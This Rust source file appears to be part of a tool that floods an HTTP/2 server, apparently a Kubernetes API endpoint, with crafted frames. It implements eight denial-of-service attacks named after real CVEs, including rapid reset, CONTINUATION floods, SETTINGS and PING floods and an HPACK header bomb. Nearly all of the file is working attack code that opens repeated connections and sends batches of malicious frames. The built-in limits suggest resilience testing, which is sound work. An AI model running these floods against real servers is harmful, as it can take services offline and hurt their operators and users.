//! Floods of HTTP/2 frames. A server may answer them, or end the connection; each flood goes on over a new
//! one then.

use super::{Line, Outcome};
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, PING, POST, RESET, SETTINGS,
    WINDOW_UPDATE, frame, head, open,
};
use crate::target::{ADMIN, Target};
use anyhow::Result;
use std::io::Write;
use std::time::Instant;

/// Frames of one flood.
const FRAMES_MAX: usize = 500_000;
/// Connections of one flood: a server that ends each at once is not to be asked for ever.
const CONNECTIONS_MAX: usize = 200;
/// Frames that are sent at once.
const BATCH: u32 = 100;
const WINDOW: u32 = 65_535;
const MAPS: &str = "/api/v1/namespaces/default/configmaps";

pub const ATTACKS: [Line; 8] = [
    ("rapid-reset", "streams that are reset at once (CVE-2023-44487)", None, rapid_reset),
    ("made-you-reset", "faults for which the server resets (CVE-2025-8671)", None, made_you_reset),
    ("window-overflow", "windows that overflow", None, window_overflow),
    ("continuation", "headers without an end (CVE-2024-27316)", None, continuation),
    ("empty-data", "data frames without bytes (CVE-2019-9518)", None, empty_data),
    ("settings", "settings, each to be acknowledged (CVE-2019-9515)", None, settings),
    ("ping", "pings, each to be answered (CVE-2019-9512)", None, ping),
    (
        "header-bomb",
        "headers that name the same long table entry (CVE-2016-6581)",
        None,
        header_bomb,
    ),
];

/// Sends what `next` makes of the number of a turn, over one connection after the other.
fn flood(target: &Target, end: Instant, next: impl Fn(u32) -> Vec<u8>) -> Result<Outcome> {
    let (mut sent, mut connections) = (0, 0);
    while sent < FRAMES_MAX && connections < CONNECTIONS_MAX && Instant::now() < end {
        // A server that has enough of us may not let us in.
        let Ok(mut stream) = open(target, WINDOW) else { continue };
        connections += 1;
        let mut turn = 0;
        while sent < FRAMES_MAX && Instant::now() < end {
            let batch: Vec<u8> = (turn..turn + BATCH).flat_map(&next).collect();
            if stream.write_all(&batch).and_then(|()| stream.flush()).is_err() {
                break;
            }
            turn += BATCH;
            sent += BATCH as usize;
        }
    }
    Ok(Outcome { sent, note: format!("{connections} connections") })
}

fn stream(turn: u32) -> u32 {
    2 * turn + 1
}

fn rapid_reset(target: &Target, end: Instant) -> Result<Outcome> {
    let get = head(GET, MAPS, ADMIN);
    flood(target, end, |turn| {
        let cancel = frame(RESET, 0, stream(turn), &8_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), &get), cancel].concat()
    })
}

fn made_you_reset(target: &Target, end: Instant) -> Result<Outcome> {
    let get = head(GET, MAPS, ADMIN);
    flood(target, end, |turn| {
        let nothing = frame(WINDOW_UPDATE, 0, stream(turn), &0_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), &get), nothing].concat()
    })
}

fn window_overflow(target: &Target, end: Instant) -> Result<Outcome> {
    let post = head(POST, MAPS, ADMIN);
    flood(target, end, |turn| {
        let much = frame(WINDOW_UPDATE, 0, stream(turn), &0x7fff_ffff_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS, stream(turn), &post), much].concat()
    })
}

fn continuation(target: &Target, end: Instant) -> Result<Outcome> {
    let get = head(GET, MAPS, ADMIN);
    flood(target, end, |turn| match turn {
        0 => frame(HEADERS, END_STREAM, 1, &get),
        _ => frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"),
    })
}

fn empty_data(target: &Target, end: Instant) -> Result<Outcome> {
    let post = head(POST, MAPS, ADMIN);
    flood(target, end, |turn| match turn {
        0 => frame(HEADERS, END_HEADERS, 1, &post),
        _ => frame(DATA, 0, 1, &[]),
    })
}

fn settings(target: &Target, end: Instant) -> Result<Outcome> {
    flood(target, end, |_| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]))
}

fn ping(target: &Target, end: Instant) -> Result<Outcome> {
    flood(target, end, |turn| frame(PING, 0, 0, &u64::from(turn).to_be_bytes()))
}

fn header_bomb(target: &Target, end: Instant) -> Result<Outcome> {
    // The first request puts a long header into the table; the others name it 4,000 times each.
    let long = [b"\x40\x01a\x7f\xa1\x1e".as_slice(), &[b'a'; 4000]].concat();
    let first = [head(GET, "/version", ADMIN), long].concat();
    let again = [head(GET, "/version", ADMIN), vec![0xbe; 4000]].concat();
    flood(target, end, |turn| {
        let block = if turn == 0 { &first } else { &again };
        frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), block)
    })
}
